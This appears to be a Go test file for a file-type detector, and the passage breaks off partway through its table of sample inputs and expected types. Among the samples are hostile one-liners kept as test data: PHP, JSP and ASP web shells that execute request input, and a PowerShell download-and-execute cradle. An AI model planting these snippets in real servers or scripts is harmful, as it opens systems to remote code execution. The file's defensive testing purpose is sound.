package filetype

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"spoor/internal/realdata"
)

func zipOf(names ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, n := range names {
		name, body, _ := strings.Cut(n, "=")
		f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
		if err != nil {
			panic(err)
		}
		f.Write([]byte(body))
	}
	w.Close()
	return b.Bytes()
}

func zlibOf(text string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return b.String()
}

// noise is the same n bytes every time, which do not compress.
func noise(n int) []byte {
	b := make([]byte, n)
	rand.NewChaCha8([32]byte{}).Read(b)
	return b
}

// mimeZip writes the first header as readers of "mimetype" want it: sizes in the header, not behind the data.
func mimeZip(mime string, names ...string) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateRaw(&zip.FileHeader{Name: "mimetype", Method: zip.Store, CompressedSize64: uint64(len(mime)), UncompressedSize64: uint64(len(mime))})
	if err != nil {
		panic(err)
	}
	f.Write([]byte(mime))
	for _, n := range names {
		w.Create(n)
	}
	w.Close()
	return b.Bytes()
}

// pe is a header and nothing else.
func pe(machine, flags, magic, subsystem uint16, clr bool) []byte {
	b := make([]byte, 0x400)
	copy(b, "MZ")
	b[0x3C] = 0x80
	copy(b[0x80:], "PE\x00\x00")
	le := binary.LittleEndian
	le.PutUint16(b[0x84:], machine)
	le.PutUint16(b[0x96:], flags)
	le.PutUint16(b[0x98:], magic)
	le.PutUint16(b[0x98+68:], subsystem)
	dirs := 0x98 + 96
	if magic == 0x20B {
		dirs += 16
	}
	le.PutUint32(b[dirs-4:], 16)
	if clr {
		le.PutUint32(b[dirs+14*8:], 0x2000)
		le.PutUint32(b[dirs+14*8+4:], 72)
	}
	return b
}

func elf(class, data byte, kind, machine uint16, interp bool) []byte {
	b := make([]byte, 256)
	copy(b, "\x7FELF")
	b[4], b[5], b[6] = class, data, 1
	var o binary.ByteOrder = binary.LittleEndian
	if data == 2 {
		o = binary.BigEndian
	}
	o.PutUint16(b[16:], kind)
	o.PutUint16(b[18:], machine)
	if interp {
		o.PutUint64(b[32:], 64)
		o.PutUint16(b[54:], 56)
		o.PutUint16(b[56:], 1)
		o.PutUint32(b[64:], 3)
	}
	return b
}

// ole is a compound file of one directory sector: a root of a class and names below it.
func ole(class string, names ...string) []byte {
	b := make([]byte, 512*3)
	le := binary.LittleEndian
	copy(b, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
	le.PutUint16(b[30:], 9)
	le.PutUint16(b[32:], 6)
	le.PutUint32(b[48:], 1)
	le.PutUint32(b[56:], 4096)
	le.PutUint32(b[60:], 0xFFFFFFFE)
	le.PutUint32(b[68:], 0xFFFFFFFE)
	for i := range 109 {
		le.PutUint32(b[76+4*i:], 0xFFFFFFFF)
	}
	le.PutUint32(b[76:], 0)
	fat := b[512:]
	for i := range 128 {
		le.PutUint32(fat[4*i:], 0xFFFFFFFF)
	}
	le.PutUint32(fat, 0xFFFFFFFD)
	le.PutUint32(fat[4:], 0xFFFFFFFE)
	for i, name := range append([]string{"Root Entry"}, names...) {
		e := b[1024+128*i:]
		for k, u := range utf16.Encode([]rune(name)) {
			le.PutUint16(e[2*k:], u)
		}
		le.PutUint16(e[64:], uint16(2*len(utf16.Encode([]rune(name)))+2))
		e[66] = 2
		le.PutUint32(e[68:], 0xFFFFFFFF)
		le.PutUint32(e[72:], 0xFFFFFFFF)
		le.PutUint32(e[76:], 0xFFFFFFFF)
		le.PutUint32(e[116:], 0xFFFFFFFE)
		switch {
		case i == 0:
			e[66] = 5
			copy(e[80:], class)
			if len(names) > 0 {
				le.PutUint32(e[76:], 1)
			}
		case i < len(names):
			le.PutUint32(e[72:], uint32(i+1))
		}
		if name == "VBA" {
			e[66] = 1
		}
	}
	return b
}

func wide(s string) string {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func at(off int, mark string) string { return strings.Repeat("\x00", off) + mark }

func pad(s string, n int) string { return s + strings.Repeat("\x00", n) }

// linearProgram is the beginning of a linear executable behind 64 bytes of a program for DOS.
func linearProgram(kind string, system byte, flags uint32) string {
	b := make([]byte, 64+200)
	copy(b, "MZ")
	b[0x3C] = 64
	copy(b[64:], kind)
	b[64+10] = system
	binary.LittleEndian.PutUint32(b[64+16:], flags)
	return string(b)
}

func TestDetect(t *testing.T) {
	fat := "\xCA\xFE\xBA\xBE\x00\x00\x00\x02" + "\x01\x00\x00\x07\x00\x00\x00\x03\x00\x00\x00\x40\x00\x00\x00\x20\x00\x00\x00\x0C" + "\x01\x00\x00\x0C\x00\x00\x00\x00\x00\x00\x00\x60\x00\x00\x00\x20\x00\x00\x00\x0C"
	fat = fat + strings.Repeat("\x00", 0x40-len(fat)) + "\xCF\xFA\xED\xFE\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + strings.Repeat("\x00", 64)
	for _, c := range []struct {
		in   string
		want Type
	}{
		{"", Type{Empty, "empty", "EMPTY"}},
		{string(pe(0x8664, 0x2022, 0x20B, 2, false)), Type{PE, "PE32+ DLL x64", "PE"}},
		{string(pe(0x14C, 0x0102, 0x10B, 3, true)), Type{PE, "PE32 EXE x86 .NET", "PE"}},
		{string(pe(0xAA64, 0x0022, 0x20B, 1, false)), Type{PE, "PE32+ driver ARM64", "PE"}},
		{string(pe(0x8664, 0x0022, 0x20B, 10, false)), Type{PE, "PE32+ EFI application x64", "PE"}},
		{pad("MZ\x90\x00", 100), Type{MZ, "DOS EXE", "MZ"}},
		{linearProgram("LX", 1, 0x200), Type{MZ, "LX EXE (OS/2)", "LX"}},
		{linearProgram("LX", 1, 0x8004), Type{MZ, "LX DLL (OS/2)", "LX"}},
		{linearProgram("LX", 1, 0x20000), Type{MZ, "LX driver (OS/2)", "LX"}},
		{linearProgram("LX", 1, 0x8004)[64:], Type{MZ, "LX DLL (OS/2)", "LX"}},
		{linearProgram("LE", 4, 0x28000), Type{MZ, "LE driver (Windows VxD)", "LE"}},
		{linearProgram("LE", 1, 0)[:66], Type{MZ, "DOS EXE", "MZ"}},
		{"# PaCkAgE DaTaStReAm\nSUNWfoo 1 12\n# end of header\n", Type{Archive, "Solaris package (data stream)", "PKG"}},
		{string(elf(2, 1, 3, 62, false)), Type{ELF, "ELF 64 LE shared object x86-64", "ELF"}},
		{string(elf(2, 1, 3, 62, true)), Type{ELF, "ELF 64 LE PIE executable x86-64", "ELF"}},
		{string(elf(1, 2, 2, 8, false)), Type{ELF, "ELF 32 BE executable MIPS", "ELF"}},
		{string(elf(2, 1, 1, 183, false)), Type{ELF, "ELF 64 LE relocatable AArch64", "ELF"}},
		{pad("\xCF\xFA\xED\xFE\x0C\x00\x00\x01\x00\x00\x00\x00\x06\x00\x00\x00", 32), Type{MachO, "Mach-O 64 shared library arm64", "MACHO"}},
		{fat, Type{MachO, "Mach-O universal executable (x86-64, arm64)", "MACHO"}},
		{pad("\xCA\xFE\xBA\xBE\x00\x00\x00\x34", 32), Type{Class, "Java class 52", "CLASS"}},
		{"dex\n035\x00" + at(100, ""), Type{DEX, "Dalvik bytecode", "DEX"}},
		{"\x00asm\x01\x00\x00\x00", Type{WASM, "WebAssembly", "WASM"}},
		{"\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46" + at(60, ""), Type{LNK, "LNK", "LNK"}},

		{string(ole("\x84\x10\x0C\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", "\x05SummaryInformation")), Type{MSI, "MSI", "MSI"}},
		{string(ole("", "WordDocument")), Type{OLE, "OLE Word document (DOC)", "DOC"}},
		{string(ole("", "Workbook", "VBA")), Type{OLE, "OLE Excel workbook with macros (XLS)", "XLS"}},
		{string(ole("", "PowerPoint Document")), Type{OLE, "OLE PowerPoint presentation (PPT)", "PPT"}},
		{string(ole("", "__properties_version1.0")), Type{MSG, "Outlook message", "MSG"}},
		{string(ole("", "EncryptedPackage", "EncryptionInfo")), Type{OLE, "OOXML, encrypted", "OLE"}},
		{string(ole("", "\x01Ole10Native")), Type{OLE, "OLE package (OLE)", "OLE"}},
		{string(ole("", "Something")), Type{OLE, "OLE compound file", "OLE"}},
		{string(zipOf("[Content_Types].xml", "word/document.xml")), Type{OOXML, "OOXML (DOCX)", "DOCX"}},
		{string(zipOf("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")), Type{OOXML, "OOXML with macros (DOCM)", "DOCM"}},
		{string(zipOf("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")), Type{OOXML, "OOXML with macros (XLSM)", "XLSM"}},
		{string(zipOf("[Content_Types].xml", "xl/workbook.bin")), Type{OOXML, "OOXML (XLSB)", "XLSB"}},
		{string(zipOf("[Content_Types].xml", "ppt/presentation.xml")), Type{OOXML, "OOXML (PPTX)", "PPTX"}},
		{string(zipOf("META-INF/MANIFEST.MF", "a/B.class")), Type{Jar, "Java archive (JAR)", "JAR"}},
		{string(zipOf("META-INF/MANIFEST.MF", "AndroidManifest.xml", "classes.dex")), Type{APK, "Android package (APK)", "APK"}},
		{string(zipOf("[Content_Types].xml", "AppxManifest.xml")), Type{Appx, "Windows app package (APPX)", "APPX"}},
		{string(zipOf("[Content_Types].xml", "extension.vsixmanifest")), Type{Appx, "Visual Studio extension (VSIX)", "VSIX"}},
		{string(mimeZip("application/vnd.oasis.opendocument.spreadsheet", "content.xml")), Type{ODF, "OpenDocument spreadsheet (ODS)", "ODS"}},
		{string(mimeZip("application/epub+zip", "content.opf")), Type{Zip, "EPUB", "EPUB"}},
		{string(zipOf("a.txt")), Type{Zip, "ZIP archive", "ZIP"}},
		{string(zipOf("a.txt=hello"))[:30], Type{Zip, "ZIP archive", "ZIP"}}, // cut off
		{"#!/usr/bin/env python3\n" + string(zipOf("__main__.py")), Type{Zip, "ZIP of a Python program after script: Python", "PYZ"}},
		{"GIF89a\x01\x00\x01\x00" + string(zipOf("META-INF/MANIFEST.MF")), Type{Jar, "Java archive (JAR) after GIF image", "JAR"}},
		{"PK\x05\x06" + at(18, ""), Type{Zip, "ZIP archive", "ZIP"}},

		{"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n", Type{PDF, "PDF 1.7", "PDF"}},
		{"\x00\x01\x02junk%PDF-1.4\n", Type{PDF, "PDF 1.4 after 7 bytes of other data", "PDF"}},
		{"{\\rtf1\\ansi x}", Type{RTF, "RTF", "RTF"}},
		{"7z\xBC\xAF\x27\x1C\x00\x04", Type{SevenZip, "7-Zip archive", "7Z"}},
		{"Rar!\x1A\x07\x01\x00", Type{RAR, "RAR 5 archive", "RAR"}},
		{at(7, "**ACE**") + at(40, ""), Type{Archive, "ACE archive", "ACE"}},
		{"\x1A\x08HELLO.TXT\x00\x00\x00\x00\x05\x00\x00\x00\x00\x00\x00\x00\x00\x00\x05\x00\x00\x00hello\x1A\x00", Type{Archive, "ARC archive", "ARC"}},
		{"ZOO 2.10 Archive.\x1A" + "\x00\x00\xDC\xA7\xC4\xFD" + at(20, ""), Type{Archive, "Zoo archive", "ZOO"}},
		{"SIT!\x00\x01\x00\x00\x00\x20rLau\x01" + at(20, ""), Type{Archive, "StuffIt archive", "SIT"}},
		{"StuffIt (c)1997-2002 Aladdin Systems, Inc., http://www.aladdinsys.com/StuffIt/\r\n", Type{Archive, "StuffIt archive", "SIT"}},
		{"StuffIt! is what it says at first\x00", Type{Archive, "StuffIt X archive", "SITX"}},
		{"StuffIt was an archiver of the Macintosh.\n", Type{Text, "text: ASCII", "TXT"}},
		{"UHAUL is a company.\n", Type{Text, "text: ASCII", "TXT"}},
		{"\x20\x00\x00\x00\x6D\x00\x00\x10\x19\x04\x00\x10" + at(40, ""), Type{Archive, "Symbian package", "SIS"}},
		{"\xA3HK\xBE\x98\x6C\x4A\xA9\x99\x4C\x53\x0A\x86\xD6\x48\x7DAU3!EA06", Type{Archive, "AutoIt compiled script", "A3X"}},
		{"Rar!\x1A\x07\x00\xCF", Type{RAR, "RAR 4 archive", "RAR"}},
		{at(257, "ustar\x0000") + at(300, ""), Type{Tar, "tar archive", "TAR"}},
		{"\x1F\x8B\x08\x00\x00\x00\x00\x00\x00\x03", Type{Gzip, "gzip", "GZ"}},
		{"BZh91AY&SY\x00\x00", Type{Bzip2, "bzip2", "BZ2"}},
		{"\xFD7zXZ\x00\x00\x04", Type{XZ, "XZ", "XZ"}},
		{"\x28\xB5\x2F\xFD\x00", Type{Zstd, "Zstandard", "ZST"}},
		{"LZIP\x01\x0C", Type{Lzip, "lzip", "LZ"}},
		{"\x5D\x00\x00\x80\x00\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x00" + at(8, "x"), Type{LZMA, "LZMA", "LZMA"}},
		{"\x04\x22\x4D\x18\x64", Type{LZ4, "LZ4", "LZ4"}},
		{"\x1F\x9D\x90\x00", Type{Compress, "compress", "Z"}},
		{"MSCF\x00\x00\x00\x00" + at(40, ""), Type{Cab, "Microsoft Cabinet", "CAB"}},
		{at(16*2048, "\x01CD001\x01") + at(2048, ""), Type{ISO, "ISO 9660 image", "ISO"}},
		{at(16*2048, "\x00BEA01\x01") + at(2048-7, "\x00NSR02\x01") + at(2048, ""), Type{UDF, "UDF image", "UDF"}},
		{"070701" + at(120, ""), Type{CPIO, "cpio (newc)", "CPIO"}},
		{"!<arch>\nfoo.o/", Type{Ar, "ar archive", "AR"}},
		{"!<arch>\ndebian-binary   ", Type{Deb, "Debian package", "DEB"}},
		{"\xED\xAB\xEE\xDB\x03\x00", Type{RPM, "RPM package", "RPM"}},
		{"\x60\xEA\x2B\x00\x22\x0B\x01\x0B\x10\x00\x02" + at(60, ""), Type{ARJ, "ARJ archive", "ARJ"}},
		{"\x19\x8A-lh5-" + at(13, "\x01") + at(20, ""), Type{LZH, "LHA archive", "LZH"}},
		{"ITSF\x03\x00\x00\x00", Type{CHM, "Compiled HTML Help", "CHM"}},
		{"hsqs\x00\x00", Type{SquashFS, "SquashFS", "SQUASHFS"}},
		{"\x78\xDA" + at(2000, "") + "koly\x00\x00\x00\x04" + at(504, ""), Type{DMG, "Apple disk image", "DMG"}},
		{"MSWIM\x00\x00\x00", Type{WIM, "Windows Imaging", "WIM"}},
		{"xar!\x00\x1C", Type{XAR, "XAR archive", "XAR"}},
		{"SZDD\x88\xF0\x27\x33A", Type{SZDD, "MS-DOS compress (SZDD)", "SZDD"}},
		{"\x78\x9F\x3E\x22\x00\x00", Type{TNEF, "TNEF message", "TNEF"}},
		{"\x00\x00\x00\x00\xEF\xBE\xAD\xDENullsoftInst" + at(10, ""), Type{NSIS, "NSIS installer data", "NSIS"}},

		{"\x89PNG\r\n\x1A\n", Type{Image, "PNG image", "PNG"}},
		{"\xFF\xD8\xFF\xE0", Type{Image, "JPEG image", "JPEG"}},
		{"RIFF\x00\x00\x00\x00WEBPVP8 ", Type{Image, "WebP image", "WEBP"}},
		{"RIFF\x00\x00\x00\x00WAVEfmt ", Type{Audio, "WAV audio", "WAV"}},
		{"\x00\x00\x00\x20ftypisom", Type{Video, "MPEG-4 video", "MP4"}},
		{"\x00\x00\x00\x20ftypavif", Type{Image, "AVIF image", "AVIF"}},
		{"wOF2\x00\x01", Type{Font, "WOFF 2 font", "WOFF2"}},
		{"\x00\x01\x00\x00\x00\x0C\x00\x80\x00\x03\x00\x40DSIG", Type{Font, "TrueType font", "TTF"}},
		{"SQLite format 3\x00", Type{Other, "SQLite 3 database", "SQLITE"}},
		{"ElfFile\x00\x00", Type{Other, "Windows event log (EVTX)", "EVTX"}},

		{"#!/bin/sh\nexit 0\n", Type{Script, "script: shell", "SH"}},
		{"#! /usr/bin/env -S python3.11 -u\nprint(1)\n", Type{Script, "script: Python", "PY"}},
		{"#!/usr/bin/perl -w\n", Type{Script, "script: Perl", "PL"}},
		{"<?php echo 1;", Type{Script, "script: PHP", "PHP"}},
		{"<html><body>\n<?php eval($_POST['a']); ?>\n</body>", Type{Script, "script: PHP", "PHP"}},
		{"@echo off\r\nset A=1\r\n", Type{Script, "script: batch", "BAT"}},
		{"local nmap = require \"nmap\"\n\nlocal function sub(s)\n  if s then\n    for k, v in pairs(s) do print(k .. v) end\n  end\nend\n", Type{Script, "script: Lua", "LUA"}},
		{"-- tables\nCREATE OR REPLACE FUNCTION f() RETURNS int AS '\nDECLARE\nFUNCTION g()\nBEGIN\nIF a = 1 THEN\nEND IF;\nEND;\n' LANGUAGE plpgsql;\nEND FUNCTION\nset x = 1\n", Type{Text, "text: ASCII", "TXT"}},
		{"how to begin\nbegin at the start\nbegin 644 a.txt\n#86)C\n`\nend\n", Type{UUEncode, "uuencoded data", "UU"}},
		{"in a line: begin 644 a.txt\n#86)C\n`\nend\n", Type{Text, "text: ASCII", "TXT"}},
		{"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\nOn Error Resume Next\r\n", Type{Script, "script: VBScript", "VBS"}},
		{"$x = New-Object Net.WebClient\r\nInvoke-Expression $x.DownloadString('http://a')\r\n", Type{Script, "script: PowerShell", "PS1"}},
		{wide("$x = New-Object Net.WebClient\r\nInvoke-Expression $x.DownloadString('http://a')\r\n"), Type{Script, "script: PowerShell, UTF-16 LE", "PS1"}},
		{"var a = new ActiveXObject('WScript.Shell');\nfunction f(x) { return x; }\n", Type{Script, "script: JavaScript", "JS"}},
		{"import os\n\ndef f(x):\n    return x\n", Type{Script, "script: Python", "PY"}},
		{"<html><head><HTA:APPLICATION id=a></head>", Type{Script, "script: HTA", "HTA"}},
		{"<?xml version=\"1.0\"?><job><script language=\"JScript\">x</script></job>", Type{Script, "script: Windows Script File", "WSF"}},
		{"<?XML version=\"1.0\"?><scriptlet><script>x</script></scriptlet>", Type{Script, "script: scriptlet", "SCT"}},
		{"Windows Registry Editor Version 5.00\r\n", Type{Script, "script: registry entries", "REG"}},
		{"<!DOCTYPE html><html>", Type{HTML, "HTML", "HTML"}},
		{"<?xml version=\"1.0\"?><a/>", Type{XML, "XML", "XML"}},
		{"<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", Type{XML, "SVG image", "SVG"}},
		{"From: a@example.org\nTo: b@example.org\nSubject: x\n\nhello\n", Type{Mail, "mail message", "EML"}},
		{"From a@example.org Thu Jan  1 00:00:00 2020\nFrom: a@example.org\nTo: b\nSubject: x\n\nhello\n", Type{Mbox, "mailbox (mbox)", "MBOX"}},
		{"{\"a\": [1, 2, true]}", Type{Text, "JSON", "JSON"}},
		{"[InternetShortcut]\r\nURL=http://example.org/\r\n", Type{Text, "Internet shortcut", "URL"}},
		{"-----BEGIN CERTIFICATE-----\nMII\n", Type{Text, "PEM: certificate", "PEM"}},
		{"just some words, as people write them\n", Type{Text, "text: ASCII", "TXT"}},
		{"MZ is how this text begins, and it is only text.\n" + strings.Repeat("word ", 20), Type{Text, "text: ASCII", "TXT"}},
		{"Größe und Maß\n", Type{Text, "text: UTF-8", "TXT"}},
		{"\xEF\xBB\xBFplain\n", Type{Text, "text: UTF-8 with BOM", "TXT"}},
		{wide("plain words\n"), Type{Text, "text: UTF-16 LE", "TXT"}},
		{wide("plain words\n")[2:], Type{Text, "text: UTF-16 LE without BOM", "TXT"}},
		{"Gr\xF6\xDFe und Ma\xDF\n", Type{Text, "text: 8-bit", "TXT"}},
		{"\x00\x01\x02\x03\x04\x05\x06\x80\x81", Type{}},
		{"\xCA\xFE\xBA\xBF", Type{}}, // a universal binary that was cut
		{"\x05\x02\x00\x00\x00\x20\x00\x02\x00\x04REALM" + at(40, ""), Type{Other, "Kerberos keytab", "KEYTAB"}},
		{"\x05\x02\xFF\x00\x00\x20\x00\x02\x00\x04REALM" + at(40, ""), Type{}},
		{"\x05\x04\x00\x0C\x00\x01\x00\x08" + at(40, ""), Type{Other, "Kerberos credential cache", "CCACHE"}},
		{"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00]\x94.", Type{Other, "Python pickle", "PICKLE"}},
		{"\x80\x02}q\x00.", Type{Other, "Python pickle", "PICKLE"}},
		{"\x80\x02csys\nexit\n.", Type{Other, "Python pickle", "PICKLE"}},
		{"\x80\x02}q\x00x", Type{}},
		{"\x99\x01\x0D\x04\x50\x00\x00\x00\x01\x08\x00" + at(300, ""), Type{Other, "OpenPGP public key", "PGP"}},
		{"\xC1\xC0\x4C\x03\x11\x22\x33\x44\x55\x66\x77\x88\x01\x08\x00" + at(300, ""), Type{Other, "OpenPGP message", "PGP"}},
		{"\x89\x01\x33\x04\x00\x01\x08\x00" + at(400, ""), Type{Other, "OpenPGP signature", "PGP"}},
		{"\x99\x01\x0D\x09\x50\x00\x00\x00\x01\x08\x00" + at(300, ""), Type{}},
		{"\x1A\x01\x07\x00\x02\x00\x02\x00\x02\x00\x02\x00vt|dec\x00" + at(20, ""), Type{Other, "terminfo entry", "TERMINFO"}},
		{"\x1A\x45\xDF\xA3\x9F\x42\x82\x84webm", Type{Video, "WebM video", "WEBM"}},
		{"\x00\x00\x00\x00\xEF\xCD\xAB\x89" + at(20, ""), Type{Other, "Extensible Storage Engine database", "ESE"}},
		{"\xA1\xB2\x3C\x4D" + at(20, ""), Type{Other, "packet capture (pcap)", "PCAP"}},
		{"\xEA\x05\x00\xC0\x07" + at(505, "\x55\xAA\xEB\x66HdrS") + at(40, ""), Type{Other, "Linux kernel (bzImage)", "BZIMAGE"}},
		{"ANDROID!" + at(20, ""), Type{Other, "Android boot image", "IMG"}},
		{"FasdUAS 1.101.10", Type{Other, "compiled AppleScript", "SCPT"}},
		{"Microsoft C/C++ MSF 7.00\r\n\x1ADS\x00", Type{Other, "program database (PDB)", "PDB"}},
		{"[Version]\r\nSignature=\"$Windows NT$\"\r\n[DefaultInstall]\r\n", Type{Text, "Windows setup information (INF)", "INF"}},
		{"[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\share\\a.ico\r\n", Type{Text, "Explorer command file (SCF)", "SCF"}},
		{"WEB\r\n1\r\nhttp://host/\r\n", Type{Text, "Excel web query", "IQY"}},
		{"ID;PWXL;N;E\r\nP;PGeneral\r\n", Type{Text, "SYLK spreadsheet", "SLK"}},
		{"screen mode id:i:2\r\nfull address:s:host\r\n", Type{Text, "Remote Desktop connection", "RDP"}},
		{"#@~^KwAAAA==\\ko$K6~J_+s^W\"rADAAA==^#~@\n", Type{Script, "script: encoded (VBE or JSE)", "VBE"}},
		{"<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"><a/></MMC_ConsoleFile>", Type{XML, "Management Console file (MSC)", "MSC"}},
		{"<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\"/>", Type{XML, "Windows library", "LIBRARY-MS"}},
		{"@rem words\r\n@python \"%~dp0a.py\" %*\r\n", Type{Script, "script: batch", "BAT"}},
		{"// Words.\npackage a\n\nimport \"x\"\n\nconst y = 1\nfunc f() { return }\nvar z = 'a' === b\n", Type{Text, "text: ASCII", "TXT"}},
		{"# Title\n\nwords\n\n```js\nconst a = require('b');\nlet c = function () { return a === 1 };\n```\n", Type{Text, "text: ASCII", "TXT"}},
		{"# words\nname: build\non: push\njobs:\n  run: |\n    set -eu\n    for i in a b; do\n      export A=$i\n    done\n", Type{Text, "text: ASCII", "TXT"}},
		{"#! not for running standalone, see the handbook\nsome words\n", Type{Text, "text: ASCII", "TXT"}},
		{"#!/usr/bin env python\nprint(1)\n", Type{Script, "script: Python", "PY"}},
		{"#!/usr/bin/perl5.36-x86_64-linux-gnu\n", Type{Script, "script: Perl", "PL"}},
		{"IFS=\x0B\nplain words, and a bell\x07\n", Type{Text, "text: ASCII", "TXT"}},
		{strings.Repeat("\xA4\xB3\xA4\xEC", 200), Type{Text, "text: 8-bit", "TXT"}},
		{"PK\x03\x04\x14\x00\x08\x00\x08\x00" + at(8, "") + at(8, "") + "\x0B\x00\x00\x00_rels/.rels" + "data" + "PK\x03\x04\x14\x00\x08\x00\x08\x00" + at(16, "") + "\x13\x00\x00\x00[Content_Types].xml" + "data" +
			"PK\x03\x04\x14\x00\x08\x00\x08\x00" + at(16, "") + "\x08\x00\x00\x00ppt/a.xm" + "data", Type{OOXML, "OOXML (PPTX)", "PPTX"}}, // cut off, without sizes
		{"PK\x03\x04" + at(22, "") + "\x02\x00\x04\x00a/\xFE\xCA\x00\x00", Type{Jar, "Java archive (JAR)", "JAR"}},
		{"UF2\n\x57\x51\x5D\x9E" + at(504, ""), Type{Other, "UF2 firmware", "UF2"}},
		{"DSD \x1C\x00\x00\x00\x00\x00\x00\x00" + at(20, ""), Type{Audio, "DSD audio", "DSF"}},
		{"FRM8\x00\x00\x00\x00\x00\x00\x01\x00DSD FVER" + at(20, ""), Type{Audio, "DSD audio (DSDIFF)", "DFF"}},
		{"FOR1\x00\x00\x00\x10BEAMAtU8", Type{Other, "Erlang bytecode (BEAM)", "BEAM"}},
		{"\x00\x0D\x00\x02\x00\x41\x00\x41\x00\x01\x00\x01\x00\x01\x00\x01" + at(8+28, ""), Type{Font, "TeX font metrics", "TFM"}},
		{"\x00\x0D\x00\x02\x00\x41\x00\x41\x00\x01\x00\x01\x00\x01\x00\x02" + at(8+28, ""), Type{}},
		{"\xF7\xCA\x02vf" + at(8, "\xF3\x00") + at(20, ""), Type{Font, "TeX virtual font", "VF"}},
		{"LZIP\x00\x0C", Type{Lzip, "lzip", "LZ"}},
		{"\x27\xB5\x2F\xFD\x00", Type{Archive, "Zstandard before 0.8", "ZST"}},
		{"\x50\x2A\x4D\x18\x04\x00\x00\x00\x99\x00\x00\x00\x28\xB5\x2F\xFD\x00", Type{Zstd, "Zstandard", "ZST"}},
		{"a/file" + at(251, "ustar\x0000") + at(250, ""), Type{Tar, "tar archive", "TAR"}},
		{strings.Repeat("word ", 51) + "a ustar -w \"dir\"\n" + strings.Repeat("word ", 60), Type{Text, "text: ASCII", "TXT"}},
		{"dnl A macro.\nAC_DEFUN([A_B], [\nif test \"$a\" = b; then\n  export A=1\nfi\nfor i in a b; do echo $i; done\n])\n", Type{Text, "text: ASCII", "TXT"}},
		{"A = 1\nall: a.o\n\tfor i in a b; do \\\n\t  if test -f $$i; then echo $(A); fi; \\\n\tdone\n", Type{Text, "text: ASCII", "TXT"}},
		{"set -eu\nfor i in a b; do\n  case $i in\n  a)\n\techo a ;;\n  esac\ndone\nexport A=$i\n", Type{Script, "script: shell", "SH"}},
		{"\x36\x04\x00\x10" + strings.Repeat("\x00\x7E", 2048), Type{Font, "console font (PSF 1)", "PSF"}},
		{"\x36\x04\x00\x10\x00\x01" + at(100, ""), Type{}},
		{"\x72\xB5\x4A\x86\x00\x00\x00\x00\x20\x00\x00\x00" + at(40, ""), Type{Font, "console font (PSF 2)", "PSF"}},
		{"FILE\x00\x00\x00\x04PFF2NAME", Type{Font, "GRUB font (PFF2)", "PF2"}},
		{"\x3C\xB8\x64\x18\xCA\xEF\x9C\x95\xCD\x21\x1C\xBF\x60\xA1\xBD\xDD\x42", Type{Other, "Qt message catalogue", "QM"}},
		{"PATCH\x00\x00\x10\x00\x01\xC9EOF", Type{Other, "IPS patch", "IPS"}},
		{"PATCH\x00\x00\x10\x00\x01\xC9EOF\x00\x40\x00", Type{Other, "IPS patch", "IPS"}},
		{"PATCH to be applied by hand\n", Type{Text, "text: ASCII", "TXT"}},
		{"\x55\xAA\x01\xEB" + at(507, "\x15"), Type{Other, "PC option ROM", "ROM"}},
		{"\x55\xAA\x01\xEB" + at(20, "\x20\x00") + at(6, "PCIR") + at(600, ""), Type{Other, "PC option ROM", "ROM"}},
		{"\x55\xAA\x01\xEB" + at(507, "\x16"), Type{}},
		{"SSDT\x28\x00\x00\x00\x02\x98" + at(30, ""), Type{Other, "ACPI table SSDT", "AML"}},
		{"SSDT\x28\x00\x00\x00\x02\x99" + at(30, ""), Type{}},
		{"Extended Module: Song", Type{Audio, "FastTracker module", "XM"}},
		{"IMPMSong\x00", Type{Audio, "Impulse Tracker module", "IT"}},
		{at(44, "SCRM") + at(40, ""), Type{Audio, "Scream Tracker module", "S3M"}},
		{at(1080, "M.K.") + at(40, ""), Type{Audio, "ProTracker module", "MOD"}},
		{zlibOf("blob 5\x00hello"), Type{Zlib, "zlib", "ZLIB"}},
		{zlibOf(string(noise(40 << 10))), Type{Zlib, "zlib", "ZLIB"}},
		{zlibOf(string(noise(4 << 10)))[:1000], Type{}},
		{"\x78\x9C\x00\x01\x02\x03\x04\x05\x06\x07", Type{}},
		{"<%@ page import=\"java.io.*\" %>\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n", Type{Script, "script: JSP", "JSP"}},
		{"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">void Page_Load() {}</script>\n", Type{Script, "script: ASP.NET", "ASPX"}},
		{"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System;\n", Type{Script, "script: ASP.NET", "ASPX"}},
		{"<%@ LANGUAGE=\"VBScript\" %>\n<html></html>\n", Type{Script, "script: ASP", "ASP"}},
		{"<% eval request(\"a\") %>\n", Type{Script, "script: ASP", "ASP"}},
		{"<%= name %> is how a template begins\n", Type{Text, "text: ASCII", "TXT"}},
		{"<nav id=\"a\">\n  <% for (var i in menu) { %>\n  <a href=\"<%= i %>\"></a>\n  <% } %>\n</nav>\n", Type{HTML, "HTML (template)", "HTML"}},
		{"<img src=\"a.png\" width=\"40\" />\n\n# Title\n\nSome words.\n", Type{Text, "text: ASCII", "TXT"}},
